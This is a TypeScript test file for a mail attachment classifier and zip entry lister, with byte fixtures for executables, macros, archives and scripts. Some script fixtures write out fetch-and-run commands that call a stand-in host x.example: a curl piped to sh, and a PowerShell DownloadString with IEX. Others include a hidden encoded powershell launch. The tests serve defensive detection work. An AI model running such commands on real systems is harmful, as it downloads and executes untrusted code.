import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { detectAttachmentType } from '../../../src/lib/mail/detectAttachmentType.ts';
import { listArchiveEntries, MAX_ARCHIVE_ENTRIES } from '../../../src/lib/mail/listArchiveEntries.ts';
import { zipEntryNames } from '../../../src/lib/mail/zipEntryNames.ts';

const bytes = (...parts: (number[] | string)[]) =>
  Uint8Array.from(parts.flatMap((p) => (typeof p === 'string' ? [...new TextEncoder().encode(p)] : p)));
const utf16 = (s: string) => [...s].flatMap((c) => [c.charCodeAt(0), 0]);

async function zipOf(files: Record<string, string>): Promise<Uint8Array> {
  const zip = new JSZip();
  for (const [name, content] of Object.entries(files)) zip.file(name, content);
  return zip.generateAsync({ type: 'uint8array' });
}

/** Sets the "encrypted" flag on every entry, as a password-protected zip has it. */
function markEncrypted(zip: Uint8Array): Uint8Array {
  const out = zip.slice();
  const view = new DataView(out.buffer);
  for (let i = 0; i + 4 <= out.length; i++) {
    const sig = view.getUint32(i, true);
    if (sig === 0x04034b50) out[i + 6] |= 1;
    if (sig === 0x02014b50) out[i + 8] |= 1;
  }
  return out;
}

describe('detectAttachmentType', () => {
  it.each([
    ['pe-executable', bytes('MZ', [0x90, 0, 3, 0])],
    ['elf', bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1])],
    ['mach-o', bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])],
    ['mach-o', bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2])],
    ['unknown', bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0xff, 0x01])],
    ['ole2', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Array(600).fill(0), utf16('WordDocument'))],
    ['office-macro', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Array(600).fill(0), utf16('_VBA_PROJECT'))],
    ['pdf', bytes('%PDF-1.7\n%\xe2\xe3')],
    ['rar', bytes('Rar!', [0x1a, 0x07, 0x01, 0x00])],
    ['7z', bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4])],
    ['gzip', bytes([0x1f, 0x8b, 8, 0])],
    ['png', bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0])],
    ['jpeg', bytes([0xff, 0xd8, 0xff, 0xe0, 0, 0x10])],
    ['gif', bytes('GIF89a', [1, 0, 1, 0])],
    ['script', bytes('#!/bin/sh\ncurl http://x.example | sh\n')],
    ['script', bytes('var s=new ActiveXObject("WScript.Shell");s.Run("calc");')],
    ['script', bytes('Set objShell = CreateObject("WScript.Shell")\r\nobjShell.Run "cmd"\r\n')],
    ['script', bytes('@echo off\r\npowershell -nop -w hidden -enc SQBFAFgA\r\n')],
    ['script', bytes('$c = New-Object System.Net.WebClient; IEX $c.DownloadString("http://x.example/a")')],
    ['html', bytes('\ufeff<!DOCTYPE html><html><body>hi</body></html>')],
    ['html', bytes('  <html>\n<script>alert(1)</script>')],
    ['text', bytes('The attachment invoice.exe was blocked for delivery by the e-mail server.\r\nSet up a meeting if needed.\r\n')],
    ['unknown', bytes([0x00, 0x01, 0x02, 0xfe, 0x00])],
    ['unknown', new Uint8Array(0)],
  ])('%s', (expected, input) => {
    expect(detectAttachmentType(input)).toBe(expected);
  });

  it('tells zip, OOXML and OOXML with macros apart', async () => {
    expect(detectAttachmentType(await zipOf({ 'a.txt': 'x' }))).toBe('zip');
    expect(detectAttachmentType(await zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>' }))).toBe('ooxml');
    expect(detectAttachmentType(await zipOf({ '[Content_Types].xml': '<Types/>', 'word/vbaProject.bin': 'x' }))).toBe('office-macro');
  });
});

describe('zip entry listing', () => {
  it('lists names with jszip', async () => {
    const zip = await zipOf({ 'docs/readme.txt': 'a', 'payload.js': 'b', 'Ünïcode.exe': 'c' });
    expect((await listArchiveEntries(zip)).names.sort()).toEqual(['docs/', 'docs/readme.txt', 'payload.js', 'Ünïcode.exe']);
  });

  it('still lists an encrypted zip, from its directory', async () => {
    const zip = markEncrypted(await zipOf({ 'invoice.pdf.exe': 'MZ', 'note.txt': 'x' }));
    const listing = await listArchiveEntries(zip);
    expect(listing.names).toEqual(['invoice.pdf.exe', 'note.txt']);
    expect(listing.note).toMatch(/jszip could not read/);
    expect(zipEntryNames(zip, 10)).toMatchObject({ encrypted: true, complete: true, source: 'central-directory' });
  });

  it('reads local headers when the central directory is cut off', async () => {
    const zip = await zipOf({ 'first.exe': 'MZ'.repeat(50), 'second.js': 'var a=1;' });
    const cut = zip.subarray(0, zip.length - 80);
    expect(zipEntryNames(cut, 10)).toMatchObject({ names: ['first.exe', 'second.js'], complete: false, source: 'local-headers' });
  });

  it('is bounded', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < MAX_ARCHIVE_ENTRIES + 5; i++) files[`f${i}.txt`] = '';
    const listing = await listArchiveEntries(await zipOf(files));
    expect(listing.names).toHaveLength(MAX_ARCHIVE_ENTRIES);
    expect(listing.note).toMatch(/first 1000 listed/);
  });
});
